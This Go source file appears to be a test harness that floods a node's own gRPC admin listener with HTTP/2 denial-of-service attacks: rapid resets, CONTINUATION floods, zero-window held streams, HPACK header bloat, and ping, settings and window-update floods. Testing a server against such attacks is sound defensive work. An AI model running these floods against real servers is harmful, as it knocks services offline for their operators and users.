package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// administered are attacks by HTTP/2 on a listener of --admin, which speaks gRPC. Each is tried in
// cleartext, and over TLS with a token that the node knows.
var administered = withTLS([]attack{
	{
		"admin-resets", "20 connections that open and reset calls at --admin", "http",
		each(20, adminResets),
	},
	{
		"admin-continuation", "100 connections with headers without end at --admin", "http",
		each(100, adminContinuation),
	},
	{
		"admin-unread",
		"500 connections with 250 requests at once at --admin, and no room for answers", "http",
		each(500, adminUnread),
	},
	{
		"admin-calls",
		"500 connections with 250 gRPC calls at once at --admin, and no room for answers", "http",
		each(500, adminCalls),
	},
	{
		"admin-halves",
		"500 connections with 250 gRPC calls at --admin; a part of each message comes", "http",
		each(500, adminHalves),
	},
	{
		"admin-headers",
		"500 connections with 250 calls at --admin, with headers of 12 KiB that unpack to more",
		"http", each(500, adminHeaders),
	},
	{
		"admin-pages",
		"500 connections that ask --admin for keys by HTTP/1.1, and read nothing",
		"http", each(500, adminPages),
	},
	{
		"admin-pings", "500 connections that send pings to --admin and read nothing", "http",
		each(500, adminPings),
	},
	{
		"admin-windows", "500 connections that read nothing and send windows to --admin", "http",
		each(500, adminWindows),
	},
	{
		"admin-timed",
		"500 connections that read nothing and send windows to --admin after calls that may take " +
			"an hour", "http", each(500, adminTimed),
	},
	{
		"admin-settings", "500 connections that send settings to --admin and read nothing", "http",
		each(500, adminSettings),
	},
})

// withTLS has each attack twice.
func withTLS(list []attack) (all []attack) {
	for _, a := range list {
		all = append(all, a)
		a.name, a.what = a.name+"-tls", a.what+", over TLS"
		all = append(all, a)
	}
	return all
}

// isAdministered says that the node has a listener of --admin.
func (a *attack) isAdministered() bool { return strings.HasPrefix(a.name, "admin-") }

// adminConn is a connection of HTTP/2 to --admin. Settings come first.
type adminConn struct {
	*http2.Framer
	net.Conn
	head bytes.Buffer
	hpack.Encoder
}

// dialAdmin opens a connection; nil: it was refused. Answers are read and thrown away if reads.
func dialAdmin(ctx context.Context, v *victim, reads bool, s ...http2.Setting) *adminConn {
	conn := dial(ctx, "tcp", v.admin)
	if conn == nil {
		return nil
	}
	if v.secured {
		over := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		if over.HandshakeContext(ctx) != nil {
			conn.Close()
			return nil
		}
		conn = over
	}
	c := &adminConn{Conn: conn, Framer: http2.NewFramer(conn, nil)}
	c.Encoder = *hpack.NewEncoder(&c.head)
	c.AllowIllegalWrites = true
	_, _ = io.WriteString(conn, http2.ClientPreface)
	_ = c.WriteSettings(s...)
	_ = c.WriteSettingsAck()
	if reads {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
	}
	return c
}

// Close closes the socket: that of TLS would wait for a write.
func (c *adminConn) Close() error {
	if over, ok := c.Conn.(*tls.Conn); ok {
		return over.NetConn().Close()
	}
	return c.Conn.Close()
}

// fields are the head of a request.
func (c *adminConn) fields(method, path string, more ...hpack.HeaderField) []byte {
	c.head.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: "localhost"},
		{Name: "authorization", Value: "Bearer " + token},
	}, more...) {
		_ = c.WriteField(f)
	}
	return c.head.Bytes()
}

// perConn is how many requests a connection has under way.
const perConn = 250

var asCall = []hpack.HeaderField{
	{Name: "content-type", Value: "application/grpc"},
	{Name: "te", Value: "trailers"},
}

const (
	metricsPage = "/metrics"
	limitsCall  = "/penstock.v1.Admin/Limits"
)

func adminResets(ctx context.Context, v *victim) (sent int) {
	c := dialAdmin(ctx, v, true)
	if c == nil {
		return 0
	}
	defer c.Close()
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if c.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: c.fields("POST", limitsCall, asCall...), EndHeaders: true,
		}) != nil || c.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return sent
		}
		sent++
	}
	return sent
}

func adminContinuation(ctx context.Context, v *victim) (sent int) {
	c := dialAdmin(ctx, v, true)
	if c == nil {
		return 0
	}
	defer c.Close()
	if c.WriteHeaders(http2.HeadersFrameParam{
		StreamID: 1, BlockFragment: c.fields("POST", limitsCall, asCall...),
	}) != nil {
		return 0
	}
	c.head.Reset()
	_ = c.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8<<10)})
	for c.WriteContinuation(1, false, c.head.Bytes()) == nil {
		sent++
	}
	return sent
}

// held opens requests on a new connection without a window for answers, and keeps it until the node
// has enough. Each has data, which ends it if ends is true.
func held(
	ctx context.Context, v *victim, data []byte, ends bool, method, path string,
	more ...hpack.HeaderField,
) (sent int) {
	c := dialAdmin(ctx, v, false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if c == nil {
		return 0
	}
	defer c.Close()
	for ; sent < perConn; sent++ {
		id := uint32(2*sent + 1)
		if c.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: c.fields(method, path, more...), EndHeaders: true,
			EndStream: ends && data == nil,
		}) != nil || data != nil && c.WriteData(id, ends, data) != nil {
			return sent
		}
	}
	_, _ = io.Copy(io.Discard, c.Conn)
	return sent
}

func adminUnread(ctx context.Context, v *victim) int {
	return held(ctx, v, nil, true, "GET", metricsPage)
}

func adminCalls(ctx context.Context, v *victim) int {
	return held(ctx, v, message(0, 0), true, "POST", limitsCall, asCall...)
}

func adminHalves(ctx context.Context, v *victim) int {
	half := append(message(0, 16<<10), make([]byte, 8<<10)...)
	return held(ctx, v, half, false, "POST", limitsCall, asCall...)
}

// adminHeaders refers to one header of 3 KiB again and again.
func adminHeaders(ctx context.Context, v *victim) int {
	large := hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3<<10)}
	more := append([]hpack.HeaderField{large, large, large, large}, asCall...)
	return held(ctx, v, nil, false, "POST", limitsCall, more...)
}

func adminPages(ctx context.Context, v *victim) (sent int) {
	conn := dial(ctx, "tcp", v.admin)
	if conn == nil {
		return 0
	}
	defer conn.Close()
	if v.secured {
		over := tls.Client(conn, trusting)
		if over.HandshakeContext(ctx) != nil {
			return 0
		}
		conn = over
	}
	for {
		if _, err := io.WriteString(conn, "GET /v1/top?count=1000 HTTP/1.1\r\nHost: localhost\r\n"+
			"Authorization: Bearer "+token+"\r\n\r\n"); err != nil {
			return sent
		}
		sent++
	}
}

func adminPings(ctx context.Context, v *victim) int {
	return control(ctx, v, nil, func(c *adminConn) error { return c.WritePing(false, [8]byte{1}) })
}

func adminSettings(ctx context.Context, v *victim) int {
	return control(ctx, v, nil, func(c *adminConn) error { return c.WriteSettings() })
}

// adminWindows asks first for more than has room in sockets: gRPC keeps windows until it has
// written the answers.
func adminWindows(ctx context.Context, v *victim) int { return control(ctx, v, asCall, windows) }

// adminTimed does so with calls that have deadlines: gRPC has a timer for each.
func adminTimed(ctx context.Context, v *victim) int {
	timed := append(slices.Clone(asCall), hpack.HeaderField{Name: "grpc-timeout", Value: "1H"})
	return control(ctx, v, timed, windows)
}

func windows(c *adminConn) error { return c.WriteWindowUpdate(0, 1) }

// control opens calls with these fields, if there are any, sends 64 frames at a time that are no
// calls, and reads nothing. The connection stays open while the node takes in nothing more.
func control(
	ctx context.Context, v *victim, fields []hpack.HeaderField, write func(c *adminConn) error,
) (sent int) {
	c := dialAdmin(ctx, v, false)
	if c == nil {
		return 0
	}
	defer c.Close()
	for i := range 4 * perConn {
		if fields != nil && c.WriteHeaders(http2.HeadersFrameParam{
			StreamID: uint32(2*i + 1), BlockFragment: c.fields("POST", "/none", fields...),
			EndHeaders: true, EndStream: true,
		}) != nil {
			return sent
		}
	}
	var frames bytes.Buffer
	batch := &adminConn{Framer: http2.NewFramer(&frames, nil)}
	for range 64 {
		_ = write(batch)
	}
	for ctx.Err() == nil {
		_ = c.SetWriteDeadline(time.Now().Add(time.Minute))
		if _, err := c.Conn.Write(frames.Bytes()); err != nil {
			return sent
		}
		sent += 64
	}
	return sent
}
